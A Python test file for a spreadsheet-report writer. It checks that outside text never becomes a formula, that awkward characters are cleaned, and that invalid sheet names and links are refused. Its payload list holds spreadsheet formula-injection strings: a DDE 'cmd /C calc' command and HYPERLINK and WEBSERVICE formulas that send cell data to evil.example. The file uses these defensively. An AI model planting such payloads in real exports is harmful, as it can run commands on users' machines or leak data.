"""Text people or other systems typed: it stays text, whole, in every cell; and names a book may not have."""

from __future__ import annotations

from dataclasses import replace
from io import BytesIO

import pytest
from openpyxl import load_workbook

from reports.workbook.file.text import LONGEST_CELL, clean_text
from reports.workbook.file.verify import verify_workbook
from reports.workbook.file.write import workbook_bytes
from reports.workbook.model import Field, Link, NamedTable, Sheet, WorkbookError
from tests.unit.office_books import book, parts

STARTS = (
    "=",
    "+",
    "-",
    "@",
    "\t=",
    "\r=",
    "\n=",
    " =",
    "\u00a0=",
    "＝",
    "＋",
    "－",
    "＠",
    "'=",
    '"=',
    "|",
    "%0A=",
    "\x00=",
    "\u202e=",
)
BODIES = (
    "cmd|' /C calc'!A0",
    'HYPERLINK("https://evil.example/?"&A1,"click")',
    "SUM(1+1)*cmd|' /C calc'!A0",
    'WEBSERVICE("https://evil.example")',
    "1",
    "A1:A9",
)
PAYLOADS = [start + body for start in STARTS for body in BODIES]
NASTY = (
    "007",
    "1-2",
    "1e5",
    "TRUE",
    "#N/A",
    "https://evil.example/x",
    "mailto:someone@example.edu",
    "two\tcells\nand\r\nlines",
    "no\u00a0break",
    "bell\x07 and null\x00",
    "emoji 👩🏽‍⚕️ 🎓",
    "x" * 40_000,
    "🎓" * 20_000,
    "_x0041_ is not an escape",
    "<b>&amp;</b>",
    "right \u202eleft",
    "half \ud83d of one",
    "",
    "   ",
    "{=1+1}",
    "<r><t>=1+1</t></r>",
)  # fmt: skip


def test_a_table_longer_than_a_sheet_is_refused_in_a_sentence():
    table = NamedTable(name="Long", caption="Long", fields=(Field("A", "a"),), rows=(("x",),) * 1_048_001, words="Long")
    with pytest.raises(WorkbookError, match="1,048,001 rows, more than a sheet of Excel holds"):
        replace(book("x"), sheets=(Sheet(name="Long", title="Long", line="Long", blocks=(table,)),)).check()


def test_no_text_from_outside_becomes_a_formula():
    model = book(*PAYLOADS)
    assert len(PAYLOADS) >= 100
    content = workbook_bytes(model)
    verify_workbook(content, model)
    assert all("<f>" not in part and "<f " not in part for part in parts(content, r"worksheets/sheet").values())
    page = load_workbook(BytesIO(content))["Texts"]
    cells = [page.cell(6 + number, 1) for number in range(len(PAYLOADS))]
    assert {cell.data_type for cell in cells} == {"s"}
    assert all(cell.quotePrefix for cell in cells)


def test_text_from_outside_stays_text_after_an_edit_and_a_save():
    content = workbook_bytes(book(*PAYLOADS))
    edited = load_workbook(BytesIO(content))
    edited["Texts"]["B6"] = 99
    again = BytesIO()
    edited.save(again)
    page = load_workbook(BytesIO(again.getvalue()))["Texts"]
    cells = [page.cell(6 + number, 1) for number in range(len(PAYLOADS))]
    assert {cell.data_type for cell in cells} == {"s"}
    assert all(cell.quotePrefix for cell in cells)


def test_nasty_text_is_held_as_a_cell_can_hold_it():
    model = book(*NASTY)
    verify_workbook(workbook_bytes(model), model)
    page = load_workbook(BytesIO(workbook_bytes(model)))["Texts"]
    held = {text: page.cell(6 + number, 1).value for number, text in enumerate(NASTY)}
    assert held["007"] == "007"
    assert held["1-2"] == "1-2"
    assert held["two\tcells\nand\r\nlines"] == "two cells and lines"
    assert held["no\u00a0break"] == "no break"
    assert held["bell\x07 and null\x00"] == "bell and null"
    assert held["emoji 👩🏽‍⚕️ 🎓"] == "emoji 👩🏽‍⚕️ 🎓"
    assert held["right \u202eleft"] == "right left"
    assert held["half \ud83d of one"] == "half  of one"
    assert held["   "] is None
    assert page["A10"].hyperlink is None


@pytest.mark.parametrize("sign", ["x", "🎓"])
def test_a_cell_of_40000_characters_is_cut_and_says_so(sign: str):
    cut = clean_text(sign * 40_000)
    assert len(cut.encode("utf-16-le")) // 2 <= LONGEST_CELL
    assert cut.endswith("(cut: longer than a cell can hold)")
    assert cut.startswith(sign * 10_000)


def test_clean_text_leaves_ordinary_text_alone():
    assert clean_text("Núñez-O’Brien, José (MD) ß 王") == "Núñez-O’Brien, José (MD) ß 王"


@pytest.mark.parametrize("name", ["", "  ", "x" * 32, "a/b", "what?", "[1]", "it's", "a:b"])
def test_a_sheet_name_excel_refuses_is_refused_in_one_sentence(name: str):
    model = book("x")
    with pytest.raises(WorkbookError, match="is not allowed: give it 1 to 31 characters"):
        workbook_bytes(replace(model, sheets=(replace(model.sheets[0], name=name),)))


def test_a_name_used_twice_is_refused():
    model = book("x")
    with pytest.raises(WorkbookError, match="stands twice"):
        workbook_bytes(replace(model, sheets=(*model.sheets, *model.sheets)))


def test_a_link_that_leads_nowhere_is_refused():
    fields = (Field("Clause", "Link.", kind="link"),)
    table = NamedTable("Links", "Links", fields, ((Link("A7", sheet="Texts", anchor="A7"),),), "Links.")
    model = book("x")
    with pytest.raises(WorkbookError, match="where there is no such row"):
        workbook_bytes(replace(model, sheets=(*model.sheets, Sheet("Links", "Links", "Links.", (table,)))))
